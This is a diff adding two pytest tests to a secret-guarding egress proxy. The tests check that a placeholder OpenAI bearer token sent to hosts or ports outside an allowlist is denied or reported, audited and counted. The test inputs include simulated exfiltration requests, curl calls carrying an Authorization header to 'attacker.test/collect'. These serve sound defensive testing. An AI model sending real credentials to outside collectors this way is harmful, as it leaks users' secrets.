@@ -166,3 +166,40 @@ def test_long_request_fields_are_clipped_within_the_schema(field: str) -> None:
     record["policy_sha256"] = "0" * 64
     assert_valid([record])
     assert record[field].endswith("...")
+
+
+@needs_root
+@pytest.mark.parametrize(
+    ("url", "reason"),
+    [("https://attacker.test/collect", "host_not_allowed"), ("https://echo.example.com:8443/", "port_not_allowed")],
+    ids=["host", "port"],
+)
+def test_report_mode_attributes_a_placeholder_toward_a_destination_outside_the_allowlist(
+    make_proxy: Callable[..., ProxyProcess], url: str, reason: str
+) -> None:
+    """What enforce mode would refuse and count per secret, report mode counts the same way: a team
+    trying a policy in report mode sees the exfiltration attempts it would catch."""
+    proxy = make_proxy(MAIN_POLICY.replace("spec:\n", "spec:\n  mode: report\n", 1))
+    curl(proxy.url, proxy.ca, url, "-H", f"Authorization: Bearer {OPENAI.placeholder}")
+    [record] = proxy.audit()
+    assert (record["decision"], record["reason"], record["secret"]) == ("reported", reason, "openai")
+    assert proxy.metric("sandgate_secret_blocked_total", secret="openai", reason=reason) == 1
+
+
+@needs_root
+@pytest.mark.parametrize(
+    ("url", "reason"),
+    [("http://attacker.test/collect", "host_not_allowed"), ("http://echo.example.com:8080/", "port_not_allowed")],
+    ids=["host", "port"],
+)
+def test_a_placeholder_toward_a_destination_outside_the_allowlist_is_attributed_without_a_connect(
+    make_proxy: Callable[..., ProxyProcess], url: str, reason: str
+) -> None:
+    """Transparent mode (a pod's default) and plain-HTTP requests are decided on the request, not
+    on a CONNECT: the refusal names the placeholder's secret all the same."""
+    proxy = make_proxy(MAIN_POLICY)
+    reply = curl(proxy.url, None, url, "-H", f"Authorization: Bearer {OPENAI.placeholder}")
+    assert reply.reason == reason
+    [record] = proxy.audit()
+    assert (record["decision"], record["reason"], record["secret"]) == ("denied", reason, "openai")
+    assert proxy.metric("sandgate_secret_blocked_total", secret="openai", reason=reason) == 1
